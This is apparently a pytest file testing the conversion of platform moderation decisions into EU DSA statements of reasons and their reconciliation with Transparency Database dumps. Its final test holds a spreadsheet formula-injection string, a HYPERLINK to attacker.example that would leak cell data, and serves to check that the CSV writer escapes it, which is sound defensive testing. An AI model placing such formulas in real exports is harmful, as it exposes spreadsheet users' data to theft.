"""Platform decisions as DSA statements of reasons, and the Transparency Database dump
reconciled with them by the platform's statement id."""

from __future__ import annotations

import csv
import gzip
import io
import json
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sqlalchemy import Engine
from typer.testing import CliRunner

from tests.conftest import FIXTURES
from tests.exchange.world import build
from tidewatch.cli import app
from tidewatch.referrals import service as rs
from tidewatch.referrals.service import PlatformDecision
from tidewatch.report.exchange import dsa

DUMP = FIXTURES / "dsa_transparency_db" / "sor-global-2025-07-01-full_first3rows.csv"
HEADER = DUMP.read_text("utf-8").splitlines()[0].split(",")
DECIDED = datetime(2025, 7, 1, 9, 30, tzinfo=UTC)


def test_the_real_dump_rows_read_as_decisions() -> None:
    rows = list(dsa.read_dump(DUMP))
    assert len(rows) == 3
    decisions = [dsa.from_statement(row) for row in rows]
    assert [d.statement_id for d in decisions] == [
        "df46338b-e2bd-4ce7-a3e2-7159734bbe27",
        "ad-5f6d8e2f-7fe0-41bb-b75e-ce579d751892",
        "ea507075-c89c-4e99-8fb0-45b32f643e96",
    ]
    # Disabled within 27 member states: a geo-block; removed content: removed.
    assert [d.outcome() for d in decisions] == ["geo_blocked", "removed", "removed"]
    assert decisions[0].territorial_scope[:3] == ("AT", "BE", "BG")
    assert decisions[1].category == "STATEMENT_CATEGORY_SCAMS_AND_FRAUD"
    assert decisions[1].automated_decision == "AUTOMATED_DECISION_FULLY"
    assert all(d.automated_detection is True for d in decisions)
    assert decisions[2].decided_at == datetime(2025, 7, 1, tzinfo=UTC)


def test_a_decision_written_as_a_statement_reads_back_the_same() -> None:
    decision = PlatformDecision(
        decision_visibility=("DECISION_VISIBILITY_CONTENT_REMOVED",),
        decision_account="DECISION_ACCOUNT_TERMINATED",
        decision_ground="DECISION_GROUND_ILLEGAL_CONTENT",
        category="STATEMENT_CATEGORY_ILLEGAL_OR_HARMFUL_SPEECH",
        territorial_scope=("IT", "MT"),
        automated_detection=False,
        automated_decision="AUTOMATED_DECISION_NOT_AUTOMATED",
        statement_id="meta-sor-1",
        decided_at=DECIDED,
    )
    statement = dsa.to_statement(
        decision, platform="instagram", source_type="SOURCE_TRUSTED_FLAGGER"
    )
    assert statement["automated_detection"] == "No"
    assert statement["puid"] == "meta-sor-1" and statement["platform_name"] == "Instagram"
    assert statement["source_type"] == "SOURCE_TRUSTED_FLAGGER"
    assert statement["application_date"] == "2025-07-01"
    row = dsa.to_dump_row(statement)
    assert row["platform_uid"] == "meta-sor-1" and row["territorial_scope"] == '["IT", "MT"]'
    for back in (dsa.from_statement(statement), dsa.from_statement(row)):
        # The day survives, the time of day does not (the database keeps dates).
        assert back == PlatformDecision(
            **{**decision.__dict__, "decided_at": datetime(2025, 7, 1, tzinfo=UTC)}
        )


def test_what_is_not_a_statement_is_refused_with_the_field_named() -> None:
    with pytest.raises(ValueError, match="no statement of reasons"):
        dsa.to_statement(PlatformDecision(no_violation=True), platform="x")
    removed = PlatformDecision(
        decision_visibility=("DECISION_VISIBILITY_CONTENT_REMOVED",),
        decision_ground="DECISION_GROUND_ILLEGAL_CONTENT",
    )
    with pytest.raises(ValueError, match="content_type"):
        dsa.to_statement(removed, platform="x", content_type=("CONTENT_TYPE_BOAT",))
    with pytest.raises(ValueError, match="source_type"):
        dsa.to_statement(removed, platform="x", source_type="SOURCE_POLICE")
    payments_only = {
        "decision_monetary": "DECISION_MONETARY_SUSPENSION",
        "decision_ground": "DECISION_GROUND_ILLEGAL_CONTENT",
    }
    with pytest.raises(ValueError, match="decision_visibility"):
        dsa.from_statement(payments_only)
    assert dsa.statement_outcome(payments_only) == "restricted"
    with pytest.raises(ValueError, match="automated_detection"):
        dsa.from_statement(
            {**dsa.to_statement(removed, platform="x"), "automated_detection": "Maybe"}
        )


def _row(**values: str) -> dict[str, str]:
    return {name: values.get(name, "") for name in HEADER}


def _write_dump(path: Path, rows: list[dict[str, str]]) -> Path:
    """The real sample's header and rows, then ``rows`` in the same shape."""
    text = DUMP.read_text("utf-8")
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=HEADER, lineterminator="\n")
    writer.writerows(rows)
    path.write_text(text.rstrip("\n") + "\n" + buffer.getvalue(), "utf-8")
    return path


def _decide(world_engine: Engine, referral: rs.Referral, **fields: object) -> None:
    with world_engine.begin() as conn:
        rs.record_decision(
            conn,
            rs.get(conn, referral.id),
            PlatformDecision(**fields),  # type: ignore[arg-type]
            actor="liaison-meta",
            source="partner_api",
        )


def test_reconcile_matches_by_statement_id_and_names_what_disagrees(
    engine: Engine, database_url: str, tmp_path: Path
) -> None:
    world = build(engine, tmp_path)
    # Meta told us: account terminated, content removed (statement meta-1).
    _decide(
        engine,
        world.meta,
        decision_visibility=("DECISION_VISIBILITY_CONTENT_REMOVED",),
        decision_account="DECISION_ACCOUNT_TERMINATED",
        decision_ground="DECISION_GROUND_INCOMPATIBLE_CONTENT",
        category="STATEMENT_CATEGORY_ILLEGAL_OR_HARMFUL_SPEECH",
        statement_id="meta-1",
        decided_at=DECIDED,
    )
    # X told us it removed the posts (statement x-1), and separately, nothing on the dump.
    _decide(
        engine,
        world.x,
        decision_visibility=("DECISION_VISIBILITY_CONTENT_REMOVED",),
        decision_ground="DECISION_GROUND_ILLEGAL_CONTENT",
        statement_id="x-1",
        decided_at=DECIDED,
    )
    agreeing = _row(
        uuid="0b1c-agree",
        decision_visibility='["DECISION_VISIBILITY_CONTENT_REMOVED"]',
        decision_account="DECISION_ACCOUNT_TERMINATED",
        decision_ground="DECISION_GROUND_INCOMPATIBLE_CONTENT",
        category="STATEMENT_CATEGORY_ILLEGAL_OR_HARMFUL_SPEECH",
        territorial_scope='["DE","FR","IT"]',
        application_date="2025-07-01 00:00:00",
        source_type="SOURCE_TRUSTED_FLAGGER",
        automated_detection="No",
        automated_decision="AUTOMATED_DECISION_NOT_AUTOMATED",
        platform_name="Facebook",
        platform_uid="meta-1",
        created_at="2025-07-01 10:00:00",
    )
    # The database says X only demoted the content, on its own initiative.
    demoted = _row(
        uuid="0b1c-demoted",
        decision_visibility='["DECISION_VISIBILITY_CONTENT_DEMOTED"]',
        decision_ground="DECISION_GROUND_ILLEGAL_CONTENT",
        category="STATEMENT_CATEGORY_ILLEGAL_OR_HARMFUL_SPEECH",
        territorial_scope='["DE"]',
        application_date="2025-07-01 00:00:00",
        source_type="SOURCE_VOLUNTARY",
        automated_detection="Yes",
        automated_decision="AUTOMATED_DECISION_FULLY",
        platform_name="X",
        platform_uid="x-1",
        created_at="2025-07-01 11:00:00",
    )
    someone_elses = {**demoted, "uuid": "0b1c-other", "platform_uid": "x-999"}
    path = _write_dump(tmp_path / "dump.csv", [agreeing, demoted, someone_elses])

    result = dsa.reconcile_dump(engine, path)
    assert result.rows_read == 6
    assert [m["statement_id"] for m in result.matched] == ["meta-1"]
    assert result.matched[0]["referral"] == world.meta.public_id
    (mismatch,) = result.mismatched
    assert mismatch["referral"] == world.x.public_id
    assert mismatch["fields"] == {
        "decision_visibility": {
            "ours": ["DECISION_VISIBILITY_CONTENT_REMOVED"],
            "theirs": ["DECISION_VISIBILITY_CONTENT_DEMOTED"],
        },
        "outcome": {"ours": "removed", "theirs": "restricted"},
        "source_type": {"ours": "a notice (our referral)", "theirs": "SOURCE_VOLUNTARY"},
    }
    # The sample's own rows are Wallapop's, Kleinanzeigen's and Hotel Hideaway's: not
    # services we refer to, so not counted against us; X's unrelated statement is.
    assert result.unmatched_theirs == 1 and result.unmatched_theirs_sample == ["x-999"]
    assert result.unmatched_ours == [] and result.outside_period == 0

    # Without the agreeing row, Meta's decision (in the dump's period) is unmatched ours.
    path = _write_dump(tmp_path / "dump2.csv", [demoted])
    second = dsa.reconcile_dump(engine, path)
    assert [u["statement_id"] for u in second.unmatched_ours] == ["meta-1"]

    # The published form (a zip of zipped CSV parts) and gzip read the same rows.
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as part:
        part.write(tmp_path / "dump.csv", "sor-global-2025-07-01-full-00000.csv")
    with zipfile.ZipFile(tmp_path / "dump.zip", "w") as outer:
        outer.writestr("sor-global-2025-07-01-full-00000.csv.zip", inner.getvalue())
    with gzip.open(tmp_path / "dump.csv.gz", "wt", encoding="utf-8") as stream:
        stream.write((tmp_path / "dump.csv").read_text("utf-8"))
    for packed in ("dump.zip", "dump.csv.gz"):
        again = dsa.reconcile_dump(engine, tmp_path / packed)
        assert again.to_json() == result.to_json(), packed

    runner = CliRunner()
    done = runner.invoke(
        app,
        ["reconcile", str(path.with_name("dump.csv")), "--json", "--database-url", database_url],
    )
    assert done.exit_code == 0, done.output
    document = json.loads(done.output)
    assert document["counts"] == {
        "matched": 1,
        "mismatched": 1,
        "unmatched_ours": 0,
        "unmatched_theirs": 1,
        "without_statement": 0,
        "outside_period": 0,
    }
    text = runner.invoke(
        app, ["reconcile", str(tmp_path / "dump.csv"), "--database-url", database_url]
    )
    assert "mismatch x-1" in text.output and "SOURCE_VOLUNTARY" in text.output


def test_decisions_export_as_statements_that_reconcile_with_themselves(
    engine: Engine, database_url: str, tmp_path: Path
) -> None:
    world = build(engine, tmp_path)
    _decide(
        engine,
        world.meta,
        decision_account="DECISION_ACCOUNT_TERMINATED",
        decision_ground="DECISION_GROUND_ILLEGAL_CONTENT",
        category="STATEMENT_CATEGORY_ILLEGAL_OR_HARMFUL_SPEECH",
        territorial_scope=("DE", "FR"),
        automated_detection=False,
        statement_id="meta-7",
        decided_at=DECIDED,
        note="Account sold crossings",
    )
    _decide(
        engine,
        world.x,
        decision_visibility=("DECISION_VISIBILITY_CONTENT_REMOVED",),
        decision_ground="DECISION_GROUND_ILLEGAL_CONTENT",
        decided_at=DECIDED,  # no statement id: cannot be written as a statement
    )
    runner = CliRunner()
    base = ["export", "dsa", "--database-url", database_url]

    jsonl = tmp_path / "statements.jsonl"
    done = runner.invoke(app, [*base, "--out", str(jsonl), "--trusted-flagger"])
    assert done.exit_code == 0, done.output
    assert "1 statements of reasons" in done.output
    assert "left out 1 restricting decisions" in done.output
    (statement,) = [json.loads(line) for line in jsonl.read_text("utf-8").splitlines()]
    assert statement["puid"] == "meta-7"
    # The service is the referred item's platform, not the company that answered.
    assert statement["platform_name"] in dsa.PLATFORM_NAMES.values()
    assert statement["source_type"] == "SOURCE_TRUSTED_FLAGGER"
    assert statement["source_identity"] == "Tidewatch referral unit"
    decision = dsa.from_statement(statement)
    assert decision.decision_account == "DECISION_ACCOUNT_TERMINATED"
    assert decision.territorial_scope == ("DE", "FR")
    assert decision.note == "Account sold crossings" and decision.outcome() == "removed"

    # In the dump's layout, every column in its order; it reconciles as all matched.
    dump = tmp_path / "statements.csv"
    done = runner.invoke(app, [*base, "--out", str(dump), "--format", "csv"])
    assert done.exit_code == 0, done.output
    with dump.open(encoding="utf-8", newline="") as stream:
        rows = list(csv.DictReader(stream))
    assert list(rows[0]) == HEADER and rows[0]["platform_uid"] == "meta-7"
    assert rows[0]["source_type"] == "SOURCE_TYPE_OTHER_NOTIFICATION"
    result = dsa.reconcile_dump(engine, dump)
    assert [m["statement_id"] for m in result.matched] == ["meta-7"]
    assert result.mismatched == [] and result.without_statement == 1
    # Nothing here looks like a formula: the programs' form is the same file.
    exact = tmp_path / "exact.csv"
    done = runner.invoke(app, [*base, "--out", str(exact), "--format", "csv", "--exact-text"])
    assert done.exit_code == 0, done.output
    assert exact.read_text("utf-8") == dump.read_text("utf-8")

    # Filters: another recipient, or a period before the decision, give nothing.
    for narrower in (["--recipient", "x"], ["--to", "2025-06-30"]):
        done = runner.invoke(app, [*base, "--out", str(jsonl), *narrower])
        assert done.exit_code == 0, done.output
        assert jsonl.read_text("utf-8") == "", narrower
    for wrong, named in (
        (["--format", "xml"], "--format must be jsonl or csv"),
        (["--recipient", "myspace"], "--recipient 'myspace' is not one of"),
        (["--from", "July"], "--from must be a date"),
    ):
        done = runner.invoke(app, [*base, "--out", str(jsonl), *wrong])
        assert done.exit_code != 0 and named in done.output, done.output


def test_the_dump_csv_quotes_free_text_a_spreadsheet_would_run_but_never_ids() -> None:
    statement = {
        "puid": "-77",  # an id: written as given, so the row still reconciles
        "decision_ground": "DECISION_GROUND_ILLEGAL_CONTENT",
        "decision_facts": '=HYPERLINK("http://attacker.example/?"&A1,"details")',
        "illegal_content_explanation": "@SUM(1+1)",
        "content_type_other": "a reel",
    }

    def written(**options: bool) -> dict[str, str]:
        stream = io.StringIO(newline="")
        assert dsa.write_dump([statement], stream, **options) == 1
        stream.seek(0)
        (row,) = csv.DictReader(stream)
        return row

    safe = written()
    assert safe["decision_facts"] == "'" + statement["decision_facts"]
    assert safe["illegal_content_explanation"] == "'@SUM(1+1)"
    assert safe["content_type_other"] == "a reel"
    assert safe["platform_uid"] == "-77"
    exact = written(for_spreadsheets=False)
    assert exact["decision_facts"] == statement["decision_facts"]
    assert set(dsa.FREE_TEXT_COLUMNS) <= set(dsa.DUMP_COLUMNS)
